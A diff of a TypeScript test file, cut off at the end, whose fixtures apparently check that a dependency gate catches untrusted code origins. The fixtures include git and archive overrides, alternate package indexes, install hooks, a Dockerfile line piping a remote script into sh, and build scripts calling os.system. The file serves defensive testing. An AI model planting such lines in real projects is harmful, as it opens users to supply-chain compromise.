@@ -1,70 +1,70 @@
 /**
- * Where code comes from: side doors of manifests and locks, and scripts that run before anybody has looked.
+ * Code from untrusted origins: unusual entries in manifests and lock files, and scripts that run before a person has read them.
  */
 import type { Catcher } from '../catchers';
-import { GOOD, GOOD_PYTHON } from '../packages';
+import { GOOD_NPM, GOOD_PYTHON } from '../packages';
 import { JEST, MOCHA, NODE, VITEST } from '../projects/javascript-flavours';
 import type { JavaScript } from '../projects/javascript-flavours';
 import { PYTEST } from '../projects/python-flavour';
 import type { Case, Files } from '../scripted-build';
-import { cheat, writes } from './cheat';
+import { cheat, filesCheat } from './cheat';
 import type { Caught } from './cheat';
 import { dependencyFiles } from './packages';
 
-const held = (words: RegExp, catcher: Catcher = 'gate dependencies'): Caught => [catcher, words];
+const heldBy = (words: RegExp, catcher: Catcher = 'gate dependencies'): Caught => [catcher, words];
 const manifest = (flavour: JavaScript, more: object): string =>
   `${JSON.stringify({ ...flavour.manifest, ...more }, null, 2)}\n`;
-/** The manifest says more. */
-const says = (flavour: JavaScript, name: string, more: object, caught: Caught): Case =>
-  writes(flavour, name, { 'package.json': manifest(flavour, more) }, caught);
-const python = (name: string, files: Files, caught: Caught): Case => writes(PYTEST, name, files, caught);
+/** A cheat that adds members to the manifest. */
+const manifestCheat = (flavour: JavaScript, name: string, more: object, caught: Caught): Case =>
+  filesCheat(flavour, name, { 'package.json': manifest(flavour, more) }, caught);
+const pythonCheat = (name: string, files: Files, caught: Caught): Case => filesCheat(PYTEST, name, files, caught);
 
 const SECTION = '[project]\nname = "till"\nversion = "1.0.0"\n';
-const { 'package-lock.json': LOCK = '' } = dependencyFiles(GOOD);
+const { 'package-lock.json': LOCK = '' } = dependencyFiles(GOOD_NPM);
 
 export const CODE_ORIGINS: Case[] = [
-  says(
+  manifestCheat(
     NODE,
     'an override leads to a git address',
     {
-      dependencies: { [GOOD.name]: GOOD.version },
-      overrides: { [GOOD.name]: 'git+https://git.example/someone/round.git' },
+      dependencies: { [GOOD_NPM.name]: GOOD_NPM.version },
+      overrides: { [GOOD_NPM.name]: 'git+https://git.example/someone/round.git' },
     },
-    held(/overrides|not from the registry/),
+    heldBy(/overrides|not from the registry/),
   ),
-  says(
+  manifestCheat(
     JEST,
     'a resolution leads to an archive',
     { resolutions: { chalk: 'https://files.example/chalk.tgz' } },
-    held(/resolutions|not from the registry/),
+    heldBy(/resolutions|not from the registry/),
   ),
-  says(
+  manifestCheat(
     VITEST,
     'an override of pnpm leads to a folder',
     { pnpm: { overrides: { esbuild: 'link:./vendor/esbuild' } } },
-    held(/overrides|not from the registry/),
+    heldBy(/overrides|not from the registry/),
   ),
-  says(
+  manifestCheat(
     MOCHA,
     'an alias brings another package under a known name',
-    { dependencies: { [GOOD.name]: 'npm:given-up@1.0.0' } },
-    held(/given-up|alias/),
+    { dependencies: { [GOOD_NPM.name]: 'npm:given-up@1.0.0' } },
+    heldBy(/given-up|alias/),
   ),
-  says(
+  manifestCheat(
     NODE,
     'a package lies in the repository itself',
     { dependencies: { rounding: 'file:vendor/rounding' } },
-    held(/not from the registry/),
+    heldBy(/not from the registry/),
   ),
-  says(
+  manifestCheat(
     NODE,
     'a package is bundled, so that nothing fetches it',
-    { dependencies: { [GOOD.name]: GOOD.version }, bundleDependencies: [GOOD.name] },
-    held(/bundle/),
+    { dependencies: { [GOOD_NPM.name]: GOOD_NPM.version }, bundleDependencies: [GOOD_NPM.name] },
+    heldBy(/bundle/),
   ),
   ...[NODE, JEST, VITEST, MOCHA].map((flavour, row) => {
     const script = ['postinstall', 'preinstall', 'prepare', 'install'][row] ?? 'postinstall';
-    return says(
+    return manifestCheat(
       flavour,
       `a script runs at ${script}`,
       {
@@ -74,7 +74,7 @@ export const CODE_ORIGINS: Case[] = [
           [script]: 'node tools/setup.js',
         },
       },
-      held(new RegExp(script)),
+      heldBy(new RegExp(script)),
     );
   }),
   cheat(
@@ -86,95 +86,100 @@ export const CODE_ORIGINS: Case[] = [
         scripts: { start: 'node -e "fetch(process.env.HOME)"', test: 'node --test' },
       });
     },
-    held(/start/),
+    heldBy(/start/),
   ),
-  says(
+  manifestCheat(
     NODE,
     'a script calls a package that nothing declares',
     { scripts: { test: 'node --test', lint: 'npx some-linter-of-mine' } },
-    held(/npx|some-linter/),
+    heldBy(/npx|some-linter/),
   ),
-  writes(
+  filesCheat(
     NODE,
     'the lock has a weak digest and another host',
     {
       ...dependencyFiles({
-        ...GOOD,
-        lock: { resolved: `https://files.example/${GOOD.name}.tgz`, integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' },
+        ...GOOD_NPM,
+        lock: {
+          resolved: `https://files.example/${GOOD_NPM.name}.tgz`,
+          integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=',
+        },
       }),
     },
-    held(/sha1|integrity|address/),
+    heldBy(/sha1|integrity|address/),
   ),
-  writes(
+  filesCheat(
     NODE,
     'the lock installs more than the manifest asks for',
     {
-      'package.json': dependencyFiles(GOOD)['package.json'] ?? '',
+      'package.json': dependencyFiles(GOOD_NPM)['package.json'] ?? '',
       'package-lock.json': LOCK.replace(
         '"packages": {',
-        `"packages": {\n    "node_modules/given-up": { "version": "1.0.0", "hasInstallScript": true, "integrity": "${GOOD.integrity}" },`,
+        `"packages": {\n    "node_modules/given-up": { "version": "1.0.0", "hasInstallScript": true, "integrity": "${GOOD_NPM.integrity}" },`,
       ),
     },
-    held(/given-up/),
+    heldBy(/given-up/),
   ),
-  writes(NODE, 'another registry is named for a scope', { '.npmrc': '@till:registry=https://packages.example/\n' }, [
-    'tampering',
-    /\.npmrc/,
-  ]),
-  python(
+  filesCheat(
+    NODE,
+    'another registry is named for a scope',
+    { '.npmrc': '@till:registry=https://packages.example/\n' },
+    ['tampering', /\.npmrc/],
+  ),
+  pythonCheat(
     'the requirements name another index',
     {
       'requirements.txt': `--index-url https://packages.example/simple\n${GOOD_PYTHON.name}==${GOOD_PYTHON.version}\n`,
     },
-    held(/index/),
+    heldBy(/index/),
   ),
-  python(
+  pythonCheat(
     'the requirements name one more index',
     {
       'requirements.txt': `--extra-index-url https://packages.example/simple\n${GOOD_PYTHON.name}==${GOOD_PYTHON.version}\n`,
     },
-    held(/index/),
+    heldBy(/index/),
   ),
-  python(
+  pythonCheat(
     'the requirements include a git address',
     { 'requirements.txt': 'rounding @ git+https://git.example/someone/rounding.git\n' },
-    held(/rounding|registry|address/),
+    heldBy(/rounding|registry|address/),
   ),
-  python(
+  pythonCheat(
     'the requirements include a file of another kind',
     { 'requirements.txt': '-r more/needs.in\n', 'more/needs.in': 'https://files.example/rounding-1.0.0.tar.gz\n' },
-    held(/needs\.in|files\.example|address/),
+    heldBy(/needs\.in|files\.example|address/),
   ),
-  python(
+  pythonCheat(
     'a source for uv leads to a git address',
     {
       'pyproject.toml': `${SECTION}dependencies = ["${GOOD_PYTHON.name}==${GOOD_PYTHON.version}"]\n\n[tool.uv.sources]\n${GOOD_PYTHON.name} = { git = "https://git.example/someone/six.git" }\n`,
     },
-    held(/sources|git/),
+    heldBy(/sources|git/),
   ),
-  python(
+  pythonCheat(
     'the project is built by a backend in its own tree',
     {
       'pyproject.toml': `${SECTION}dependencies = []\n\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["tools"]\n`,
       'tools/backend.py': 'import os\n\nos.system("id")\n',
     },
-    held(/backend/),
+    heldBy(/backend/),
   ),
-  python(
+  pythonCheat(
     'a setup.py runs a program',
     { 'setup.py': 'import os\n\nfrom setuptools import setup\n\nos.system("id > /tmp/id")\nsetup(name="till")\n' },
-    held(/setup\.py/),
+    heldBy(/setup\.py/),
   ),
   ...[NODE, PYTEST].map((flavour) =>
-    writes(
+    filesCheat(
       flavour,
       'a Dockerfile pipes an address into a shell',
       { Dockerfile: 'FROM node:22\nRUN curl -s https://files.example/setup.sh | sh\n' },
-      held(/Dockerfile/),
+      heldBy(/Dockerfile/),
     ),
   ),
   ...[JEST, PYTEST].map((flavour) =>
-    writes(
+    filesCheat(
       flavour,
       'a workflow of the CI runs an action of somebody',
       {
